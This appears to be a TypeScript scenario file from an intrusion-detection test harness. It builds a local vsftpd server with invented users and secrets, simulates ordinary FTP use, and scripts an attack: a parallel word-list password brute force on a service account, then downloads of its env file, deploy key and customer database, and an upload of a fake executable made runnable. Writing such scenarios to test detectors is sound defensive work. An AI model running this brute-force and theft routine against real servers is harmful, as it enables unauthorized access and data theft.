/**
 * A small team's FTP server (vsftpd, local users chrooted to their homes):
 * people log in, fetch documents, upload reports and clear out old ones.
 * The attack is the classic one against an exposed FTP server: guess the
 * password of a service account from a word list over parallel
 * connections, log in with the one that works, take the sensitive files
 * and leave a tool behind, made executable with SITE CHMOD.
 */
import type { Prng } from '../../detect/lib/prng.js';
import { SyswardenError } from '../../errors.js';
import { FtpClient } from '../clients/ftp.js';
import type { Scenario, ScenarioContext } from '../types.js';

/** The daily users and their passwords. */
const USERS: Readonly<Record<string, string>> = {
  alice: 'Tulip-7orchard',
  bob: 'copper.Kettle42',
  carol: 'm1dnight-Ferry',
  dave: 'Granite&moss9',
};
/** The brute-forced account: a service account nobody logs in with by hand, with a word-list password. */
const VICTIM = 'deploy';
const VICTIM_PASSWORD = 'sunshine1';
/** What a brute-forcer tries before the right one (common passwords). */
const WORDLIST = [
  '123456', 'password', 'qwerty', '12345678', 'letmein', 'admin', 'welcome', 'monkey', 'dragon', 'football',
  'iloveyou', 'abc123', 'passw0rd', 'master', 'shadow', 'baseball', 'trustno1', 'superman', 'princess', 'backup',
  'backup123', 'changeme', 'secret', 'qwerty123', 'summer2023', 'winter2024', 'p@ssw0rd', 'root', 'toor', 'ftp',
  'ftpuser', 'test123', 'guest', 'default', '1q2w3e4r', 'zaq12wsx', 'starwars', 'whatever', 'freedom', 'hunter2',
  'login', 'access', 'admin123', 'letmein1', 'password1', 'server', 'backup1', 'computer', 'internet', 'sunshine',
];

/** Deterministic filler text for the users' documents. */
function filler(seed: number, lines: number): string {
  const words = ['quarterly', 'budget', 'invoice', 'meeting', 'supplier', 'forecast', 'review', 'draft', 'final', 'notes', 'client', 'shipment'];
  const out: string[] = [];
  for (let i = 0; i < lines; i++) out.push(Array.from({ length: 6 + ((seed + i) % 7) }, (_, j) => words[(seed * 7 + i * 3 + j * 5) % words.length]).join(' '));
  return out.join('\n') + '\n';
}

const DOCS = ['budget.txt', 'minutes.txt', 'suppliers.csv', 'handbook.txt'];

function homeFiles(): Record<string, string> {
  const files: Record<string, string> = {};
  Object.keys(USERS).forEach((user, u) => {
    DOCS.forEach((doc, d) => (files[`/home/${user}/docs/${doc}`] = filler(u * 11 + d, 20 + ((u + d) * 37) % 400)));
    // A few old uploads, so that clearing them out starts at once.
    for (let r = 0; r < 4; r++) files[`/home/${user}/uploads/report-000${r}.csv`] = filler(u * 4 + r + 50, 30 + r * 40);
  });
  files[`/home/${VICTIM}/db/customers.sql`] = Array.from({ length: 300 }, (_, i) => `INSERT INTO customers VALUES (${i}, 'customer${i}@example.org', '${(i * 7919) % 100000}');`).join('\n') + '\n';
  files[`/home/${VICTIM}/app.env`] = 'DB_HOST=10.0.4.12\nDB_USER=shop\nDB_PASSWORD=Vq8-sx2!p\nSMTP_PASSWORD=mail-4411\n';
  files[`/home/${VICTIM}/keys/deploy_key`] = 'placeholder deploy key for the scenario (not a real key)\n' + filler(99, 12);
  return files;
}

const VSFTPD_CONF = `# Foreground, one listening process, local users only, chrooted to their homes.
listen=YES
listen_ipv6=NO
background=NO
listen_address=127.0.0.1
anonymous_enable=NO
local_enable=YES
write_enable=YES
local_umask=022
chmod_enable=YES
chroot_local_user=YES
# Homes are writable by their users (uploads land there).
allow_writeable_chroot=YES
# vsftpd's own seccomp filter and its PID/network namespaces need what an unprivileged container lacks.
seccomp_sandbox=NO
isolate=NO
isolate_network=NO
port_enable=NO
pasv_enable=YES
pasv_address=127.0.0.1
secure_chroot_dir=/var/run/vsftpd/empty
pam_service_name=vsftpd
# Per-user settings: the service account gets its own passive port.
user_config_dir=/etc/vsftpd/users
xferlog_enable=YES
dirmessage_enable=NO
use_localtime=YES
`;

/**
 * The container's command: the passive ports are only known at start, so a
 * per-user config file sets each user's. The daily users share ctx.ports[0]
 * (the normal client runs one session at a time); the service account has
 * ctx.ports[1], so the attack's transfers never race a normal session for
 * the port. Every user has a file, so reading one is nobody's tell.
 */
function command(ctx: ScenarioContext): string[] {
  const ports = (port: string) => `printf 'pasv_min_port=%s\\npasv_max_port=%s\\n' ${port} ${port}`;
  const users = Object.keys(USERS).map((u) => `${ports('"$2"')} > /etc/vsftpd/users/${u}`);
  // Not exec'd: as PID 1 vsftpd also gets SIGCHLD for orphans, whose pids its tables lack, and segfaults; sh reaps them instead.
  const script = [...users, `${ports('"$3"')} > /etc/vsftpd/users/${VICTIM}`, '/usr/sbin/vsftpd /etc/vsftpd.conf -olisten_port="$1"; exit $?'].join('\n');
  return ['/bin/sh', '-ec', script, 'start', String(ctx.port), String(ctx.ports[0]), String(ctx.ports[1])];
}

const pick = <T>(rng: Prng, a: readonly T[]): T => a[rng.int(a.length)]!;

/** A typo of `password`: one character changed or dropped. */
function typo(rng: Prng, password: string): string {
  const i = rng.int(password.length);
  return rng.float() < 0.5 ? password.slice(0, i) + password.slice(i + 1) : password.slice(0, i) + String.fromCharCode(97 + rng.int(26)) + password.slice(i + 1);
}

/** A CSV report of roughly `bytes` bytes. */
function report(rng: Prng, bytes: number): string {
  const rows = ['date,item,qty,amount'];
  let size = rows[0]!.length;
  while (size < bytes) {
    const row = `2024-${String(1 + rng.int(12)).padStart(2, '0')}-${String(1 + rng.int(28)).padStart(2, '0')},item${rng.int(500)},${1 + rng.int(40)},${(rng.float() * 900).toFixed(2)}`;
    rows.push(row);
    size += row.length + 1;
  }
  return rows.join('\n') + '\n';
}

async function session(ctx: ScenarioContext, rng: Prng): Promise<void> {
  const user = pick(rng, Object.keys(USERS));
  const password = USERS[user]!;
  const c = await FtpClient.open({ port: ctx.port, signal: ctx.signal });
  try {
    if (rng.float() < 0.1) {
      ctx.log(`${user}: USER/PASS (typo)`);
      if (await c.login(user, typo(rng, password))) throw new SyswardenError('ERR_SCENARIO', `vsftpd let ${user} in with a wrong password`);
    }
    ctx.log(`${user}: USER/PASS`);
    if (!(await c.login(user, password))) throw new SyswardenError('ERR_SCENARIO', `vsftpd refused ${user}'s password`);
    ctx.log(`${user}: PWD, TYPE I`);
    await c.pwd();
    await c.binary();
    const steps = 1 + rng.int(4);
    for (let i = 0; i < steps && !ctx.signal.aborted; i++) {
      const p = rng.float();
      if (p < 0.25) {
        ctx.log(`${user}: LIST docs`);
        await c.list('docs');
      } else if (p < 0.55) {
        const doc = pick(rng, DOCS);
        ctx.log(`${user}: RETR docs/${doc}`);
        await c.retr(`docs/${doc}`);
      } else if (p < 0.85) {
        const name = `uploads/report-${String(1 + rng.int(9999)).padStart(4, '0')}.csv`;
        const bytes = 200 + Math.floor(rng.float() ** 2 * 200_000);
        ctx.log(`${user}: STOR ${name} (${bytes} B)`);
        await c.stor(name, report(rng, bytes));
      } else {
        // Clear out old uploads, keeping a few.
        ctx.log(`${user}: CWD uploads, NLST`);
        await c.cwd('uploads');
        const names = (await c.names()).map((n) => n.replace(/^.*\//, '')).sort();
        if (names.length > 3) {
          const old = pick(rng, names.slice(0, names.length - 3));
          ctx.log(`${user}: DELE ${old}`);
          await c.dele(old);
        }
        await c.cwd('..');
      }
    }
    ctx.log(`${user}: QUIT`);
  } finally {
    await c.quit().catch(() => {});
  }
}

/**
 * Try the words over parallel connections, three to a connection (vsftpd
 * hangs up after three failures, and makes each one wait); returns the word
 * that worked. The plan is logged up front: which worker gets a batch first
 * is a matter of timing, the batches are not.
 */
async function guess(ctx: ScenarioContext, words: readonly string[], parallel: number): Promise<string | undefined> {
  const batches: string[][] = [];
  for (let i = 0; i < words.length; i += 3) batches.push(words.slice(i, i + 3));
  batches.forEach((b, i) => ctx.log(`connection ${i}: USER ${VICTIM}, PASS ${b.join(' | ')}`));
  let next = 0;
  let found: string | undefined;
  const worker = async () => {
    while (next < batches.length && found === undefined && !ctx.signal.aborted) {
      const batch = batches[next++]!;
      let c: FtpClient | undefined;
      try {
        c = await FtpClient.open({ port: ctx.port, timeoutMs: 8000, signal: ctx.signal });
        for (const word of batch) {
          if (await c.login(VICTIM, word)) {
            found = word;
            break;
          }
        }
      } catch {
        // A refused or dropped connection costs this batch only, as it would a real brute-forcer.
      } finally {
        c?.close();
      }
    }
  };
  await Promise.all(Array.from({ length: parallel }, worker));
  return found;
}

/** Bytes that look like an ELF executable. */
function tool(rng: Prng, bytes: number): Buffer {
  const b = Buffer.alloc(bytes);
  for (let i = 0; i < bytes; i++) b[i] = rng.int(256);
  Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]).copy(b, 0);
  return b;
}

async function attackRun(ctx: ScenarioContext, rng: Prng): Promise<void> {
  const wrong = WORDLIST.filter((w) => w !== VICTIM_PASSWORD);
  const words = [...wrong.slice(0, 20 + rng.int(wrong.length - 20)), VICTIM_PASSWORD];
  const parallel = 8 + rng.int(9);
  ctx.log(`brute force ${VICTIM}: ${words.length} passwords, ${parallel} connections at a time`);
  const password = await guess(ctx, words, parallel);
  if (password === undefined) throw new SyswardenError('ERR_SCENARIO', `the brute force of ${VICTIM} found no password`);
  const c = await FtpClient.open({ port: ctx.port, signal: ctx.signal });
  try {
    ctx.log(`USER ${VICTIM} PASS ${password}`);
    if (!(await c.login(VICTIM, password))) throw new SyswardenError('ERR_SCENARIO', `vsftpd refused ${VICTIM}'s password`);
    ctx.log('PWD, TYPE I, LIST -a');
    await c.pwd();
    await c.binary();
    await c.list('-a');
    for (const f of ['app.env', 'keys/deploy_key', 'db/customers.sql']) {
      ctx.log(`RETR ${f}`);
      await c.retr(f);
    }
    // A hidden directory of its own for the tool, as droppers do.
    const dir = pick(rng, ['.cache', '.local', '.x']);
    ctx.log(`MKD ${dir}`);
    await c.mkd(dir);
    const name = `${dir}/${pick(rng, ['rsyncd', 'bk-helper', 'kupdate'])}`;
    const bytes = 20_000 + rng.int(40_000);
    ctx.log(`STOR ${name} (${bytes} B)`);
    await c.stor(name, tool(rng, bytes));
    ctx.log(`SITE CHMOD 755 ${name}`);
    await c.chmod(0o755, name);
    ctx.log('LIST -a');
    await c.list('-a');
    ctx.log('QUIT');
  } finally {
    await c.quit().catch(() => {});
  }
}

export const ftpBruteforce: Scenario = {
  name: 'ftp-bruteforce',
  application: 'vsftpd with local users chrooted to their homes (a team file drop)',
  attackKind: 'password brute force → data theft, tool upload',
  attack: 'parallel connections guess a service account\'s password from a word list, then the attacker logs in, downloads its keys, secrets and database dump, and uploads an executable made runnable with SITE CHMOD',
  extraPorts: 2,
  image: {
    name: 'ftp-bruteforce',
    packages: ['vsftpd'],
    files: { '/etc/vsftpd.conf': VSFTPD_CONF, ...homeFiles() },
    setup: [
      'mkdir -p /var/run/vsftpd/empty /etc/vsftpd/users',
      ...[...Object.keys(USERS), VICTIM].map((u) => `useradd -M -d /home/${u} -s /bin/bash ${u}`),
      `printf '%s\\n' ${[...Object.entries(USERS), [VICTIM, VICTIM_PASSWORD]].map(([u, p]) => `'${u}:${p}'`).join(' ')} | chpasswd`,
      ...[...Object.keys(USERS), VICTIM].map((u) => `chown -R ${u}:${u} /home/${u} && chmod 750 /home/${u}`),
    ].join('\n'),
  },
  command,
  async ready(ctx) {
    const c = await FtpClient.open({ port: ctx.port, timeoutMs: 3000 });
    await c.quit();
  },
  session,
  attackRun,
  evidence: ['mkdir', 'chmod'],
};
